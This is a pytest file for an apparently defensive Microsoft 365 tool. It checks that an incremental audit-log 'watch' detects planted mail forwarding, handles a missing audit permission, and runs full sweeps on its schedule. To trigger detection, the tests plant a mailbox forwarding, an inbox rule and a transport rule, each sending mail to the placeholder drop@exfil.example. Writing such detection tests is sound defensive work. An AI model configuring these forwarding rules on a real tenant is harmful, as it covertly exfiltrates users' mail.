"""The incremental watch: after a full baseline, a cycle reads only what the logs say changed since the
watermark, deep-reads only the mailboxes they name, stores nothing but the watermark when quiet, keeps the old
watermark when a log could not be read, and falls back to a full sweep on its schedule."""

from __future__ import annotations

import asyncio
import copy
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from reclaim.emulator import audit_trail
from reclaim.emulator.scenarios import synthetic
from reclaim.emulator.scenarios._common import transport_rule
from reclaim.errors import BadInput
from reclaim.m365 import ConnectionSettings
from reclaim.store import Store
from reclaim.sweep import SweepOptions
from reclaim.watch import WatchConfig, WatchCycle, watch_tenant
from reclaim.watch.cycle import watch_state
from tests.conftest import TenantClient

JSON = dict[str, Any]
PLAIN = "sarah.tanaka@woodgrovebank.com"
OTHER = "chen.osei@woodgrovebank.com"


def _fixture(users: int = 30) -> JSON:
    fx = copy.deepcopy(synthetic(users, 5))
    fx["tenant"].setdefault("settings", {})["throttling"] = {"enabled": False}
    return fx


def _cycle(store: Store, client: TenantClient, config: WatchConfig | None = None,
           now: Callable[[], datetime] | None = None) -> WatchCycle:
    settings = ConnectionSettings.for_endpoint(client.base_url)
    return asyncio.run(watch_tenant(store, "contoso", settings, config or WatchConfig(),
                                    options=SweepOptions(identity_protection_spacing=0), now=now))


def _api_calls(client: TenantClient) -> list[Any]:
    """The Graph and Exchange requests the emulator received (sign-ins left out), ``$batch`` parts one by one."""
    return [c for c in client.emulator.calls if "/oauth2/" not in c.path and c.path != "/v1.0/$batch"]


def _permissions(client: TenantClient) -> list[str]:
    found: list[str] = client.emulator.state.data["apps"][0]["permissions"]
    return found


def _stored(store: Store) -> tuple[int, int, int]:
    cases = [c.case for c in store.list_cases(kind="sweep")]
    return len(cases), sum(len(store.evidence(c.id)) for c in cases), sum(len(store.findings(c.id)) for c in cases)


def test_a_planted_forwarding_is_found_by_an_incremental_cycle(serve: Any, tmp_path: Path) -> None:
    client = serve(_fixture())
    store = Store(str(tmp_path / "w.db"))
    try:
        baseline = _cycle(store, client)
        assert baseline.mode == "full" and baseline.status == "complete"
        # forwarding set by an admin cmdlet (Set-Mailbox), not through Graph: the admin audit record names the mailbox
        r = client.exo("Set-Mailbox", {"Identity": OTHER, "ForwardingSmtpAddress": "smtp:drop@exfil.example",
                                       "DeliverToMailboxAndForward": True})
        assert r.status_code == 200, r.text
        client.emulator.calls.clear()
        cycle = _cycle(store, client)
        assert cycle.mode == "incremental" and cycle.status == "complete"
        assert [n.lower() for n in cycle.named] == [OTHER]
        assert {(f.user, f.check) for f in cycle.new} == {(OTHER, "mailbox-forwarding")}, cycle.new
        # only that mailbox was deep-read: one Get-Mailbox -Identity, no listing, no other mailbox's rules
        calls = _api_calls(client)
        rule_reads = {c.path.split("/")[3].lower() for c in calls if c.path.endswith("/messageRules")}
        assert len(rule_reads) == 1
        listings = [c for c in calls if c.path.endswith("InvokeCommand")
                    and '"Get-Mailbox"' in str(c.body) and "Identity" not in str(c.body)]
        assert listings == []
        assert store.get_case(str(cycle.case)).summary["mailboxes"] == 1
        # the record was acted on once: the next cycle is quiet and alerts on nothing
        again = _cycle(store, client)
        assert again.mode == "quiet" and again.new == [] and again.case is None
    finally:
        store.close()


def test_a_quiet_cycle_costs_a_few_requests_and_stores_only_the_watermark(serve: Any, tmp_path: Path) -> None:
    client = serve(_fixture(100))
    store = Store(str(tmp_path / "w.db"))
    try:
        client.emulator.calls.clear()
        baseline = _cycle(store, client)
        full = len(_api_calls(client))
        before = _stored(store)
        mark = watch_state(store, "contoso")
        client.emulator.calls.clear()
        quiet = _cycle(store, client)
        quiet_calls = _api_calls(client)
        assert quiet.mode == "quiet" and quiet.status == "complete" and quiet.case is None
        # the unified audit log search (create + records), the directory audits, the risky users
        assert len(quiet_calls) == 4, [c.path for c in quiet_calls]
        assert quiet.requests == 4
        assert len(quiet_calls) * 20 <= full, (len(quiet_calls), full)  # ≤ 5 % of a full sweep's requests
        assert not any(c.path.endswith("/messageRules") for c in quiet_calls)
        # nothing stored but the new watermark (on the baseline's case): no case, evidence or finding more
        assert _stored(store) == before
        after = watch_state(store, "contoso")
        assert mark is not None and after is not None and after.case == baseline.case
        assert after.watermark is not None and mark.watermark is not None and after.watermark > mark.watermark
        assert after.seen == mark.seen and after.last_full == mark.last_full
    finally:
        store.close()


def test_the_watermark_stays_when_a_log_could_not_be_read(serve: Any, tmp_path: Path) -> None:
    client = serve(_fixture())
    store = Store(str(tmp_path / "w.db"))
    try:
        _cycle(store, client)
        mark = watch_state(store, "contoso")
        assert mark is not None
        _permissions(client).remove("AuditLogsQuery.Read.All")  # the unified audit log cannot be searched
        r = client.graph("POST", f"/users/{PLAIN}/mailFolders/inbox/messageRules", json={
            "displayName": "fwd", "sequence": 1, "isEnabled": True,
            "actions": {"forwardTo": [{"emailAddress": {"address": "drop@exfil.example"}}]}})
        assert r.status_code == 201, r.text
        failed = _cycle(store, client)
        assert failed.status == "not checked" and failed.new == [] and failed.case is None
        assert failed.error is not None and failed.error.startswith("not checked: unified audit log:")
        assert "AuditLogsQuery.Read.All" in failed.error
        kept = watch_state(store, "contoso")
        assert kept is not None and kept.watermark == mark.watermark and kept.handled == mark.handled
        # the permission is back: the next cycle reads the same window again and finds the rule made meanwhile
        _permissions(client).append("AuditLogsQuery.Read.All")
        found = _cycle(store, client)
        assert found.mode == "incremental" and [(f.user, f.check) for f in found.new] == \
            [(PLAIN, "inbox-rule-external-forward")]
        moved = watch_state(store, "contoso")
        assert moved is not None and moved.watermark is not None and mark.watermark is not None
        assert moved.watermark > mark.watermark and any(k.startswith("ual:") for k in moved.handled)
    finally:
        store.close()


def test_a_full_sweep_runs_on_its_schedule(serve: Any, tmp_path: Path) -> None:
    client = serve(_fixture())
    store = Store(str(tmp_path / "w.db"))
    config = WatchConfig(full_every=3600)
    try:
        assert _cycle(store, client, config).mode == "full"
        assert _cycle(store, client, config).mode == "quiet"
        later = datetime.now(UTC) + timedelta(hours=2)
        due = _cycle(store, client, config, now=lambda: later)
        assert due.mode == "full" and due.status == "complete" and due.new == []
        state = watch_state(store, "contoso")
        assert state is not None and state.case == due.case and state.last_full == later
        # full_every = 0: every cycle is a full sweep (the watch as it was)
        assert _cycle(store, client, WatchConfig(full_every=0), now=lambda: later).mode == "full"
    finally:
        store.close()


def test_the_schedule_is_read_from_the_settings_file(tmp_path: Path) -> None:
    path = tmp_path / "watch.toml"
    path.write_text('full_every = "1d"\naudit_lookback = "90m"\naudit_wait = 120\n', encoding="utf-8")
    config = WatchConfig.load(path)
    assert (config.full_every, config.audit_lookback, config.audit_wait) == (86400, 5400, 120)
    assert WatchConfig.load(None).full_every == 86400  # default: a full sweep once a day
    for text, message in (('full_every = "soon"\n', "not a duration"), ('audit_lookback = "40d"\n', "out of range")):
        path.write_text(text, encoding="utf-8")
        with pytest.raises(BadInput, match=message):
            WatchConfig.load(path)


def test_a_tenant_wide_change_reads_the_tenant_lists_and_no_mailbox(serve: Any, tmp_path: Path) -> None:
    """A mail-flow rule made by an admin (New-TransportRule, not served by the practice tenant: the rule and the
    ExchangeAdmin record Exchange writes for it are put in place as the service would) names no mailbox: the
    cycle reads the tenant-wide lists again and alerts the rule."""
    client = serve(_fixture())
    store = Store(str(tmp_path / "w.db"))
    try:
        _cycle(store, client)
        emulator = client.emulator
        with emulator.state.lock:
            emulator.state.data.setdefault("transportRules", []).append(transport_rule(
                "tr-drop", "Journal", priority=0, changed="2026-12-04T10:00:00Z", description="Bcc",
                BlindCopyTo=["drop@exfil.example"]))
            audit_trail.admin_cmdlet(emulator.state, datetime.now(UTC), "New-TransportRule",
                                     {"Name": "Journal", "BlindCopyTo": "drop@exfil.example"}, caller="admin")
        emulator.calls.clear()
        cycle = _cycle(store, client)
        assert cycle.mode == "incremental" and cycle.named == [] and cycle.status == "complete"
        assert [(f.user, f.check) for f in cycle.new] == [(None, "transport-rule-forwarding")], cycle.new
        assert not any(c.path.endswith("/messageRules") for c in _api_calls(client))
        assert _cycle(store, client).mode == "quiet"
    finally:
        store.close()
